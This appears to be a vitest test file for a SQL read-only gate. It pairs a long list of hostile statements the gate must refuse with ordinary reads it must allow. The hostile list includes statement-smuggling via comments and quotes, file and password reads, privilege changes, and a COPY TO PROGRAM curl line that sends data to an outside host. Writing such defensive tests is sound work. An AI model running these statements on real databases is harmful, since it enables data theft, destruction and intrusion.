import { PGlite } from "@electric-sql/pglite";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { judgeSql } from "./index.ts";

/** Statements that change, lock, wait, leave the database or run text, in the ways in which read-only gates were passed. */
const HOSTILE: readonly string[] = [
  "INSERT INTO orders (id) VALUES (99)",
  "UPDATE orders SET amount = 0",
  "DELETE FROM orders",
  "TRUNCATE orders",
  "DROP TABLE orders",
  "CREATE TABLE x (a int)",
  "CREATE TABLE x AS SELECT * FROM orders",
  "ALTER TABLE orders ADD COLUMN b int",
  "SELECT * INTO copied FROM orders",
  "SELECT * INTO TEMP copied FROM orders",
  "SELECT 1; DELETE FROM orders",
  "SELECT 1;;DROP TABLE orders",
  "COMMIT; DROP TABLE orders",
  "ROLLBACK; BEGIN READ WRITE; DELETE FROM orders; COMMIT",
  "BEGIN READ WRITE",
  "START TRANSACTION READ WRITE",
  "SET TRANSACTION READ WRITE",
  "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
  "SET default_transaction_read_only = off",
  "SET search_path = evil, pg_catalog",
  "SET ROLE postgres",
  "SET SESSION AUTHORIZATION postgres",
  "RESET ALL",
  "DISCARD ALL",
  "-- just a look\nDELETE FROM orders",
  "/* SELECT */ DELETE FROM orders",
  "/* a /* nested */ SELECT 1 */ DELETE FROM orders",
  "SELECT 1 -- ' \n; DELETE FROM orders",
  "SELECT 'a\\'; DELETE FROM orders; --'",
  "SELECT E'a\\''; DELETE FROM orders; --'",
  "SELECT $$a$$; DELETE FROM orders; SELECT $$b$$",
  "SELECT $tag$ $$ $tag$; DROP TABLE orders",
  "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
  "WITH made AS (INSERT INTO orders (id) VALUES (98) RETURNING id) SELECT count(*) FROM made",
  "WITH a AS (SELECT 1), b AS (UPDATE orders SET amount = 1 RETURNING id) SELECT * FROM a, b",
  "SELECT * FROM (WITH x AS (DELETE FROM orders RETURNING id) SELECT * FROM x) y",
  "SELECT * FROM orders FOR UPDATE",
  "SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED",
  "SELECT * FROM orders FOR SHARE NOWAIT",
  "SELECT * FROM (SELECT * FROM orders FOR UPDATE) s",
  "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
  "EXPLAIN ANALYZE DELETE FROM orders",
  "EXPLAIN (ANALYZE true, VERBOSE) INSERT INTO orders (id) VALUES (97)",
  "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1",
  "EXPLAIN ANALYZE EXECUTE prepared",
  "EXPLAIN ANALYZE WITH g AS (DELETE FROM orders RETURNING 1) SELECT * FROM g",
  "DO $$ BEGIN DELETE FROM orders; END $$",
  "CALL do_it()",
  "PREPARE p AS DELETE FROM orders",
  "EXECUTE p",
  "DEALLOCATE ALL",
  "DECLARE c CURSOR FOR SELECT * FROM orders",
  "FETCH ALL FROM c",
  "LISTEN jobs",
  "NOTIFY jobs, 'x'",
  "SELECT pg_notify('jobs', 'x')",
  "COPY orders TO '/tmp/orders.csv'",
  "COPY orders FROM PROGRAM 'id'",
  "COPY (SELECT 1) TO PROGRAM 'curl http://example.com -d @-'",
  "SELECT pg_read_file('/etc/passwd')",
  "SELECT pg_catalog.pg_read_file('/etc/passwd')",
  'SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')',
  "SELECT U&\"pg\\005fread\\005ffile\"('/etc/passwd')",
  "SELECT pg_read_binary_file('postgresql.conf')",
  "SELECT * FROM pg_ls_dir('.')",
  "SELECT lo_import('/etc/passwd')",
  "SELECT lo_export(1, '/tmp/x')",
  "SELECT lo_from_bytea(0, 'x')",
  "SELECT * FROM dblink('host=example.com', 'SELECT 1') AS t(a int)",
  "SELECT dblink_exec('host=example.com', 'DROP TABLE x')",
  "SELECT set_config('search_path', 'evil', false)",
  "SELECT pg_catalog.set_config('default_transaction_read_only', 'off', true)",
  "SELECT nextval('orders_seq')",
  "SELECT setval('orders_seq', 1)",
  "SELECT id, nextval('orders_seq') FROM orders WHERE id IN (SELECT setval('orders_seq', 5))",
  "SELECT pg_sleep(3600)",
  "SELECT 1 WHERE pg_sleep_for('1 hour') IS NULL",
  "SELECT pg_advisory_lock(1)",
  "SELECT pg_try_advisory_xact_lock(1)",
  "SELECT pg_terminate_backend(1)",
  "SELECT pg_cancel_backend(pid) FROM pg_stat_activity",
  "SELECT pg_reload_conf()",
  "SELECT query_to_xml('DELETE FROM orders', true, true, '')",
  "SELECT database_to_xml(true, true, '')",
  "SELECT * FROM ts_stat('SELECT to_tsvector(name) FROM customers')",
  "SELECT pg_logical_emit_message(true, 'a', 'b')",
  "SELECT pg_switch_wal()",
  "SELECT txid_current()",
  "SELECT pg_stat_reset()",
  "SELECT rolpassword FROM pg_authid",
  "SELECT passwd FROM pg_catalog.pg_shadow",
  "SELECT * FROM pg_user_mapping",
  "GRANT ALL ON orders TO PUBLIC",
  "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
  "CREATE EXTENSION dblink",
  "CREATE RULE r AS ON SELECT TO orders DO INSTEAD DELETE FROM orders",
  "REFRESH MATERIALIZED VIEW totals",
  "VACUUM FULL orders",
  "REINDEX TABLE orders",
  "CLUSTER orders",
  "CHECKPOINT",
  "ANALYZE orders",
  "SECURITY LABEL ON TABLE orders IS 'x'",
  "MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE",
  "IMPORT FOREIGN SCHEMA s FROM SERVER x INTO public",
  "SELECT 1\0; DELETE FROM orders",
  "\\copy orders to '/tmp/x'",
  "\\! id",
  "",
  "   -- only a comment",
  "SELECT * FROM",
  `SELECT ${"(".repeat(5000)}1${")".repeat(5000)}`,
  `SELECT ${"1+".repeat(30_000)}1`,
  `SELECT '${"a".repeat(70_000)}'`,
];

/** Calls of something that nobody has looked at: a person is asked, or the policy names it. */
const UNSURE: readonly string[] = [
  "SELECT audit.touch_order(1)",
  "SELECT my_own_function(id) FROM orders",
  "SELECT public.lower('X')",
  "SELECT \"Lower\"('X')",
  "SELECT 1 OPERATOR(public.+) 2",
  "SELECT 1 <%%%> 2",
  "SELECT * FROM orders TABLESAMPLE own_method(1)",
  "SELECT * FROM orders ORDER BY id USING OPERATOR(public.<)",
];

/** Reads as people and agents write them. */
const READS: readonly string[] = [
  "SELECT 1",
  "select id, amount from orders where amount > 10 order by amount desc limit 5 offset 1;",
  "TABLE orders",
  "VALUES (1, 'a'), (2, 'b')",
  "SELECT * FROM orders -- trailing comment",
  "/* leading */ SELECT count(*) FROM orders",
  "SELECT DISTINCT ON (customer_id) customer_id, amount FROM orders ORDER BY customer_id, amount DESC",
  "SELECT c.name, sum(o.amount) FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.name HAVING sum(o.amount) > 1",
  "SELECT c.name FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)",
  "SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders) AND name NOT ILIKE '%x%'",
  "SELECT id, row_number() OVER (PARTITION BY customer_id ORDER BY amount DESC) FROM orders",
  "SELECT id, sum(amount) OVER w, lag(amount, 1, 0) OVER w FROM orders WINDOW w AS (ORDER BY id ROWS BETWEEN 2 PRECEDING AND CURRENT ROW)",
  "SELECT id, avg(amount) OVER (ORDER BY id RANGE BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW EXCLUDE TIES) FROM orders",
  "SELECT ntile(4) OVER (ORDER BY amount), percent_rank() OVER (ORDER BY amount), cume_dist() OVER (ORDER BY amount) FROM orders",
  "SELECT first_value(amount) OVER (PARTITION BY customer_id), nth_value(amount, 2) OVER (ORDER BY id) FROM orders",
  "WITH big AS (SELECT * FROM orders WHERE amount > 10) SELECT count(*) FROM big",
  "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT sum(n) FROM t",
  "WITH RECURSIVE tree AS (SELECT id, parent, 1 AS depth FROM nodes WHERE parent IS NULL UNION ALL SELECT n.id, n.parent, t.depth + 1 FROM nodes n JOIN tree t ON n.parent = t.id) SEARCH DEPTH FIRST BY id SET ord SELECT * FROM tree ORDER BY ord",
  "WITH RECURSIVE g AS (SELECT id, parent FROM nodes UNION ALL SELECT n.id, n.parent FROM nodes n JOIN g ON n.parent = g.id) CYCLE id SET is_cycle USING path SELECT id, is_cycle FROM g",
  "WITH a AS MATERIALIZED (SELECT 1 AS x), b AS NOT MATERIALIZED (SELECT x FROM a) SELECT * FROM b",
  "SELECT c.name, l.amount FROM customers c CROSS JOIN LATERAL (SELECT amount FROM orders o WHERE o.customer_id = c.id ORDER BY amount DESC LIMIT 1) l",
  "SELECT * FROM customers c LEFT JOIN LATERAL jsonb_each_text(c.info) e ON true",
  "SELECT info->>'city', info#>>'{a,b}', info @> '{\"a\":1}', info ? 'city' FROM customers",
  "SELECT jsonb_path_query(info, '$.tags[*]') FROM customers",
  "SELECT jsonb_agg(jsonb_build_object('id', id, 'amount', amount) ORDER BY id) FROM orders",
  "SELECT json_object_agg(name, id) FILTER (WHERE id > 0) FROM customers",
  'SELECT * FROM jsonb_to_recordset(\'[{"a":1,"b":"x"}]\') AS x(a int, b text)',
  "SELECT jt.* FROM customers, JSON_TABLE(info, '$.tags[*]' COLUMNS (tag text PATH '$')) AS jt",
  "SELECT JSON_VALUE(info, '$.city'), JSON_QUERY(info, '$.tags'), JSON_EXISTS(info, '$.city') FROM customers",
  "SELECT json_object('a': 1, 'b': 2), json_array(1, 2), '{}' IS JSON OBJECT",
  "SELECT row_to_json(o), to_jsonb(o) - 'id' FROM orders o",
  "SELECT customer_id, extract(month FROM placed) AS m, sum(amount) FROM orders GROUP BY GROUPING SETS ((customer_id), (extract(month FROM placed)), ())",
  "SELECT customer_id, placed, sum(amount), grouping(customer_id, placed) FROM orders GROUP BY ROLLUP (customer_id, placed)",
  "SELECT customer_id, placed, count(*) FROM orders GROUP BY CUBE (customer_id, placed)",
  "SELECT count(*) FILTER (WHERE amount > 10) AS big, count(*) AS all_of_them FROM orders",
  "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount), mode() WITHIN GROUP (ORDER BY customer_id) FROM orders",
  "SELECT string_agg(DISTINCT name, ', ' ORDER BY name) FROM customers",
  "SELECT (array_agg(id ORDER BY id))[1:2], ARRAY[1,2] || 3, 1 = ANY (ARRAY[1,2]), array_length(ARRAY[[1,2],[3,4]], 2) FROM orders",
  "SELECT unnest(tags) AS tag, count(*) FROM customers GROUP BY 1 ORDER BY 2 DESC",
  "SELECT * FROM unnest(ARRAY[1,2], ARRAY['a','b']) WITH ORDINALITY AS u(n, t, ord)",
  "SELECT tags && ARRAY['a'], tags @> ARRAY['b'], tags[1] FROM customers",
  "SELECT d::date, count(o.id) FROM generate_series(timestamp '2026-01-01', '2026-01-03', interval '1 day') d LEFT JOIN orders o ON o.placed = d::date GROUP BY d ORDER BY d",
  "SELECT * FROM ROWS FROM (generate_series(1, 3), generate_series(4, 6)) AS r(a, b)",
  "SELECT date_trunc('month', placed), to_char(placed, 'YYYY-MM'), age(now(), placed) FROM orders",
  "SELECT now() AT TIME ZONE 'UTC', current_date, localtimestamp, interval '2 days' * 3",
  "SELECT CASE WHEN amount > 100 THEN 'big' WHEN amount > 10 THEN 'mid' ELSE 'small' END, coalesce(amount, 0), nullif(amount, 0) FROM orders",
  "SELECT greatest(1, 2, 3), least(1, 2), 5 BETWEEN SYMMETRIC 9 AND 1, 1 IS DISTINCT FROM 2",
  "SELECT id FROM orders UNION SELECT id FROM customers EXCEPT SELECT 3 INTERSECT SELECT 3",
  "(SELECT id FROM orders ORDER BY id LIMIT 1) UNION ALL (SELECT id FROM customers ORDER BY id LIMIT 1)",
  "SELECT * FROM orders NATURAL JOIN (SELECT 1 AS id) x",
  "SELECT a.id FROM customers a FULL OUTER JOIN orders b USING (id)",
  "SELECT regexp_replace(name, '(\\w+)', '<\\1>', 'g'), name ~* '^a', name SIMILAR TO '(a|b)%' FROM customers",
  "SELECT name LIKE 'a\\_%' ESCAPE '\\' FROM customers",
  "SELECT trim(BOTH ' ' FROM name), substring(name FROM 2 FOR 3), position('a' IN name), overlay(name PLACING 'x' FROM 1 FOR 1) FROM customers",
  "SELECT to_tsvector('english', name) @@ plainto_tsquery('english', 'ada') FROM customers",
  "SELECT ts_rank(to_tsvector(name), to_tsquery('ada')), ts_headline(name, to_tsquery('ada')) FROM customers",
  "SELECT md5(name), encode(sha256(name::bytea), 'hex'), length(name), upper(name) COLLATE \"C\" FROM customers",
  "SELECT width_bucket(amount, 0, 100, 5), round(amount, 1), ceil(amount), amount % 3, amount ^ 2 FROM orders",
  "SELECT corr(amount, id), stddev_samp(amount), var_pop(amount), regr_slope(amount, id) FROM orders",
  "SELECT int4range(1, 5) @> 3, daterange('2026-01-01', '2026-02-01') && daterange('2026-01-15', '2026-03-01')",
  "SELECT inet '10.0.0.1' << inet '10.0.0.0/8', host(inet '10.0.0.1')",
  "SELECT ROW(1, 'a') = ROW(1, 'a'), (SELECT max(amount) FROM orders), (o).amount FROM orders o",
  "SELECT $1::int + $2::int",
  "SELECT E'tab\\there', U&'d\\0061ta', $$dollar 'quoted'; DROP$$, B'101', X'1F'",
  "SELECT * FROM orders TABLESAMPLE SYSTEM (50) REPEATABLE (1)",
  "SELECT * FROM ONLY orders FETCH FIRST 3 ROWS WITH TIES".replace("orders FETCH", "orders ORDER BY id FETCH"),
  "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public'",
  "SELECT relname, pg_size_pretty(pg_total_relation_size(oid)) FROM pg_class WHERE relkind = 'r'",
  "SELECT pg_get_indexdef(indexrelid), pg_get_constraintdef(c.oid) FROM pg_index LEFT JOIN pg_constraint c ON conrelid = indrelid",
  "SELECT version(), current_user, current_database(), current_setting('server_version')",
  "EXPLAIN SELECT * FROM orders WHERE id = 1",
  "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT count(*) FROM orders",
  "SHOW search_path",
  "SHOW ALL",
  "SELECT 'DELETE FROM orders; DROP TABLE orders' AS text_that_looks_bad",
  'SELECT "id" AS "delete", amount AS "update" FROM "orders"',
  "SELECT xmlelement(name a, name), xmlforest(id) FROM customers",
  "SELECT random() < 2, gen_random_uuid() IS NOT NULL, clock_timestamp() IS NOT NULL",
  "SELECT count(*) FROM orders o, customers c, nodes n WHERE o.customer_id = c.id",
];

const SCHEMA = `
  CREATE SEQUENCE orders_seq;
  CREATE TABLE customers (id int PRIMARY KEY, name text, info jsonb, tags text[]);
  CREATE TABLE orders (id int PRIMARY KEY, customer_id int, amount numeric, placed date);
  CREATE TABLE nodes (id int PRIMARY KEY, parent int);
  CREATE MATERIALIZED VIEW totals AS SELECT sum(amount) FROM orders;
  INSERT INTO customers VALUES (1, 'Ada', '{"city":"Rome","tags":["x","y"]}', '{a,b}'), (2, 'Bob', '{}', '{}');
  INSERT INTO orders VALUES (1, 1, 20, '2026-01-01'), (2, 1, 5, '2026-01-02'), (3, 2, 150, '2026-01-03');
  INSERT INTO nodes VALUES (1, NULL), (2, 1), (3, 2);
`;
/** All that a statement could leave behind: rows with their versions, the schema, sequences, settings, locks, transactions. */
const STATE = `SELECT
  (SELECT jsonb_agg(to_jsonb(t) || jsonb_build_object('x', t.xmin::text)) FROM orders t) AS orders,
  (SELECT jsonb_agg(to_jsonb(t) || jsonb_build_object('x', t.xmin::text)) FROM customers t) AS customers,
  (SELECT jsonb_agg(to_jsonb(t) || jsonb_build_object('x', t.xmin::text)) FROM nodes t) AS nodes,
  (SELECT string_agg(oid::text || relname || relkind::text || coalesce(relacl::text, ''), ',' ORDER BY oid) FROM pg_class) AS schema,
  (SELECT string_agg(proname || oid, ',' ORDER BY oid) FROM pg_proc WHERE oid > 16000) AS functions,
  (SELECT last_value || ' ' || is_called FROM orders_seq) AS sequence,
  (SELECT string_agg(name || '=' || setting, ',' ORDER BY name) FROM pg_settings WHERE name IN ('search_path', 'default_transaction_read_only', 'role', 'session_authorization')) AS settings,
  (SELECT count(*) FROM pg_locks WHERE locktype = 'advisory') AS advisory,
  (SELECT count(*) FROM pg_largeobject_metadata) AS large_objects,
  (SELECT count(*) FROM pg_prepared_statements WHERE from_sql) AS prepared,
  (SELECT count(*) FROM pg_listening_channels()) AS channels`;

let database: PGlite;
const state = async (): Promise<string> => JSON.stringify((await database.query(STATE)).rows);

beforeAll(async () => {
  database = new PGlite();
  await database.exec(SCHEMA);
}, 120_000);
afterAll(() => database.close());

describe("statements that do more than read (M5)", () => {
  it("are at least sixty", () => {
    expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(60);
  });

  it.each(HOSTILE.map((text) => [text.slice(0, 80), text]))("%s", async (_, text) => {
    const verdict = await judgeSql(text, "postgres");
    expect(verdict.type === "understood" && verdict.access === "read" ? "let through as a read" : "not a read").toBe("not a read");
    expect((await judgeSql(text, "unknown")).type).not.toBe("understood");
  });

  it.each(UNSURE)("asks about %s", async (text) => {
    expect(await judgeSql(text, "postgres")).toMatchObject({ type: "unsure", why: expect.stringMatching(/not known|own/) });
  });

  it("would be noticed by the check of the database", async () => {
    const throwaway = new PGlite();
    const seen = async (): Promise<string> => JSON.stringify((await throwaway.query(STATE)).rows);
    await throwaway.exec(SCHEMA);
    for (const text of [
      "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone",
      "SELECT nextval('orders_seq')",
      "SELECT set_config('search_path', 'public, pg_temp', false)",
      "SELECT pg_advisory_lock(1)",
      "SELECT * INTO copied FROM orders",
      "SELECT lo_from_bytea(0, 'x')",
      "ROLLBACK; BEGIN READ WRITE; DELETE FROM orders; COMMIT",
    ]) {
      const before = await seen();
      await throwaway.exec(text);
      expect(await seen(), text).not.toBe(before);
    }
    await throwaway.close();
  }, 120_000);
});

describe("reads (M5)", () => {
  it("are at least sixty", () => {
    expect(new Set(READS).size).toBeGreaterThanOrEqual(60);
  });

  it.each(READS.map((text) => [text.slice(0, 80), text]))("%s", async (_, text) => {
    expect(await judgeSql(text, "postgres")).toMatchObject({ type: "understood", access: "read" });
  });

  it("run, and the database is as it was", async () => {
    const before = await state();
    for (const text of READS) await database.query(text, text.includes("$1") ? [1, 2] : []).catch((error: unknown) => expect.fail(`${text}: ${String(error)}`));
    expect(await state()).toBe(before);
  }, 120_000);
});

describe("statements that change rows", () => {
  it.each([
    ["INSERT INTO orders (id) VALUES (4) ON CONFLICT (id) DO UPDATE SET amount = 1 RETURNING id", false],
    ["UPDATE orders SET amount = 1 WHERE id = 1", false],
    ["UPDATE orders SET amount = 1", true],
    ["DELETE FROM orders", true],
    ["WITH x AS (DELETE FROM orders RETURNING id) SELECT * FROM x", undefined],
  ])("%s", async (text, isUnbounded) => {
    const verdict = await judgeSql(text, "postgres");
    if (isUnbounded === undefined) expect(verdict.type).toBe("refused");
    else expect(verdict).toMatchObject({ type: "understood", access: "write", isUnbounded });
  });

  it.each(["UPDATE orders SET amount = pg_sleep(1) WHERE id = 1", "INSERT INTO orders SELECT pg_read_file('/etc/passwd')"])("%s", async (text) => {
    expect((await judgeSql(text, "postgres")).type).toBe("refused");
  });
});

describe("what a policy adds", () => {
  it("names functions and tables", async () => {
    const rules = { allowFunctions: ["reports.*"], denyFunctions: ["random"], denyTables: ["customers", "hr.*"] };
    expect((await judgeSql("SELECT reports.monthly(1)", "postgres", rules)).type).toBe("understood");
    expect((await judgeSql("SELECT random()", "postgres", rules)).type).toBe("refused");
    expect((await judgeSql("SELECT * FROM public.customers", "postgres", rules)).type).toBe("refused");
    expect((await judgeSql("SELECT * FROM orders WHERE id IN (SELECT id FROM hr.salaries)", "postgres", rules)).type).toBe("refused");
  });

  it("cannot make a harmful function harmless", async () => {
    expect((await judgeSql("SELECT pg_read_file('x')", "postgres", { allowFunctions: ["*"], denyFunctions: [], denyTables: [] })).type).toBe("refused");
  });
});

describe("other dialects", () => {
  it.each([
    "SELECT /*! 1; DROP TABLE t */ 1",
    "SELECT 1 # ' \n; DELETE FROM t",
    "SELECT 'a\\'; DELETE FROM t; -- '",
    'SELECT "a\\"; DELETE FROM t; -- "',
    "SELECT * FROM t INTO OUTFILE '/tmp/x'",
    "SELECT LOAD_FILE('/etc/passwd')",
    "SELECT load_extension('x')",
    "SELECT @a := 1",
    "SELECT sleep(1000)",
    "SELECT benchmark(1000000, md5('x'))",
    "SELECT GET_LOCK('a', 10)",
    "EXEC xp_cmdshell 'id'",
    "SELECT * FROM OPENROWSET('x', 'y')",
    "ATTACH DATABASE 'x' AS y",
    "PRAGMA writable_schema = 1",
    "REPLACE INTO t VALUES (1)",
    "SELECT 1; SELECT 2",
    "WITH x AS (SELECT 1) DELETE FROM t",
    "SELECT * FROM t FOR UPDATE".replace("FOR UPDATE", "LOCK IN SHARE MODE"),
    "SELECT * FROM mysql.user",
    "HANDLER t OPEN",
    "SHOW VARIABLES; DROP TABLE t",
  ])("refuses %s", async (text) => {
    for (const dialect of ["mysql", "sqlite", "mssql"] as const) expect((await judgeSql(text, dialect)).type).toBe("refused");
  });

  it.each([
    "SELECT id, name FROM t WHERE a = 'it''s' AND b IN (1, 2) ORDER BY name DESC LIMIT 10",
    "SELECT count(*), max(x) FROM t GROUP BY y HAVING count(*) > 1",
    "WITH recent AS (SELECT * FROM t WHERE d > '2026-01-01') SELECT r.id FROM recent r JOIN u ON u.id = r.uid",
    "SELECT replace(name, 'a', 'b'), coalesce(x, 0), cast(y AS integer) FROM `t`",
    "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t;",
  ])("lets %s through", async (text) => {
    expect(await judgeSql(text, "mysql")).toMatchObject({ type: "understood", access: "read" });
  });

  it("is unsure of functions that nobody has looked at, also behind FROM", async () => {
    expect((await judgeSql("SELECT my_function(1) FROM t", "mysql")).type).toBe("unsure");
    expect((await judgeSql("SELECT * FROM my_function(1)", "mssql")).type).toBe("unsure");
  });
});
